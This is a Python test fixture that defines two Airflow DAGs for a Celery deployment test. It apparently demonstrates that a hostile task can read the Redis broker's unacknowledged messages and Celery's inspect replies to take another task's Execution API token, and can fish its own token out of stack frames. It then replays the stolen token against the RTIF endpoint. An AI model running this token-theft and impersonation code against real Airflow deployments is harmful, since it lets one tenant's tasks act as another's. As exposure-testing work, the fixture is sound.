"""
The broker test's DAGs (tests/celery_worker/test_celery_deployment.py): a victim that stays running, and a
hostile task in another DAG that reads the Celery broker with what every Celery worker holds, the
broker URL, looking for the victim's Execution API token, and then uses it.

Both write into ``CELERY_SMOKE_MARKERS`` (shared with the test). The hostile task records what it
found and every answer; it never asserts, the test does. Neither uses task state: the exposure is
Airflow's own, below anything of ours.
"""

from __future__ import annotations

import base64
import inspect
import json
import os
import time
from datetime import datetime
from pathlib import Path

from airflow.sdk import dag, get_current_context, task


def _dir() -> Path:
    return Path(os.environ["CELERY_SMOKE_MARKERS"])


@dag(schedule=None, start_date=datetime(2026, 1, 1), catchup=False)
def broker_victim():
    @task
    def victim() -> None:
        (_dir() / "broker-victim-ready").write_text("")
        # Stay running: with task_acks_late a running task's message stays in the broker.
        while not (_dir() / "release-broker-victim").exists():
            time.sleep(0.2)

    victim()


broker_victim()


def _workload(message_args: list) -> dict:
    """Airflow's ExecuteTask workload: the one argument of the Celery task `execute_workload`."""
    return json.loads(message_args[0])


def _tokens_in_unacked(client) -> dict[str, str]:
    """
    Task instance id -> token, from kombu's Redis transport: every message a worker has taken and
    not yet acknowledged, in one hash for all queues, as [message, exchange, routing key].
    """
    found = {}
    for raw in client.hgetall("unacked").values():
        message, _exchange, _routing_key = json.loads(raw)
        args, _kwargs, _embed = json.loads(base64.b64decode(message["body"]))
        workload = _workload(args)
        found[workload["ti"]["id"]] = workload["token"]
    return found


def _tokens_from_inspect(broker_url: str) -> dict[str, str]:
    """Task instance id -> token, from Celery's remote control: `inspect active` answers with args."""
    from celery import Celery

    app = Celery(broker=broker_url)
    try:
        replies = app.control.inspect(timeout=5).active() or {}
    finally:
        app.close()
    found = {}
    for requests in replies.values():
        for request in requests:
            workload = _workload(request["args"])
            found[workload["ti"]["id"]] = workload["token"]
    return found


def _own_airflow_token() -> str | None:
    """The supervisor's Execution API token: the task process is a fork, its frames are still there."""
    for frame_info in inspect.stack():
        token = frame_info.frame.f_locals.get("token")
        if frame_info.function == "supervise" and isinstance(token, str):
            return token
    return None


def _claims(token: str) -> dict:
    payload = token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))


@dag(schedule=None, start_date=datetime(2026, 1, 1), catchup=False)
def broker_hostile():
    @task
    def hostile() -> None:
        import httpx
        import redis
        from airflow.configuration import conf

        victim_id = get_current_context()["dag_run"].conf["victim_ti_id"]
        execution_api = conf.get("core", "execution_api_server_url").rstrip("/")
        # What every Celery worker holds, and so every task it runs.
        broker_url = conf.get("celery", "broker_url")
        client = redis.Redis.from_url(broker_url)
        report: dict = {
            "unacked": _tokens_in_unacked(client),
            "inspect_active": _tokens_from_inspect(broker_url),
            # Messages not yet taken by a worker wait in a list named after their queue.
            "queued": client.llen(conf.get("operators", "default_queue")),
        }
        stolen = report["unacked"].get(victim_id)
        report["claims"] = _claims(stolen) if stolen else None

        def put_fields(token: str | None) -> int:
            headers = {"Authorization": f"Bearer {token}"} if token else {}
            response = httpx.put(
                f"{execution_api}/task-instances/{victim_id}/rtif",
                json={"broker_exposure": "written by broker_hostile"},
                headers=headers,
                timeout=30,
            )
            return response.status_code

        # Airflow's ti:self route, as the victim: with no token, its own token, the stolen one.
        report["rtif_no_token"] = put_fields(None)
        report["rtif_own_token"] = put_fields(_own_airflow_token())
        report["rtif_stolen_token"] = put_fields(stolen) if stolen else None
        (_dir() / "broker-hostile.json").write_text(json.dumps(report))

    hostile()


broker_hostile()
